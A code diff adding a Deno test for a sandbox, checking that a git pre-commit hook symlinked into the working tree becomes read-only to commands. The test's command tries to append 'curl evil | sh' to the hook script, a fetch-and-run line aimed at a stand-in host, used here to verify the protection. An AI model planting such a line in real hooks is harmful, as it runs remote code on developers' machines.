@@ -148,3 +148,15 @@ Deno.test("A hook manager's config a hook reads is read-only, and one a command 
     true,
   );
 });
+
+Deno.test("A hook that is a symlink to a file of the working tree makes that file read-only to commands", async () => {
+  await using workspace = await createTempWorkspace();
+  const root = workspace.root;
+  await createRepository(root);
+  await writeFiles(root, ["scripts/pre-commit.sh"]);
+  await Deno.symlink("../../scripts/pre-commit.sh", join(root, ".git/hooks/pre-commit"));
+  await using sandbox = await openSandbox(root, "workspace-write");
+  const { result } = await runIn(sandbox, "echo 'curl evil | sh' >> scripts/pre-commit.sh");
+  notEqual(exitCodeOf(result), 0, result.content);
+  equal(await Deno.readTextFile(join(root, "scripts/pre-commit.sh")), "echo ok\n");
+});
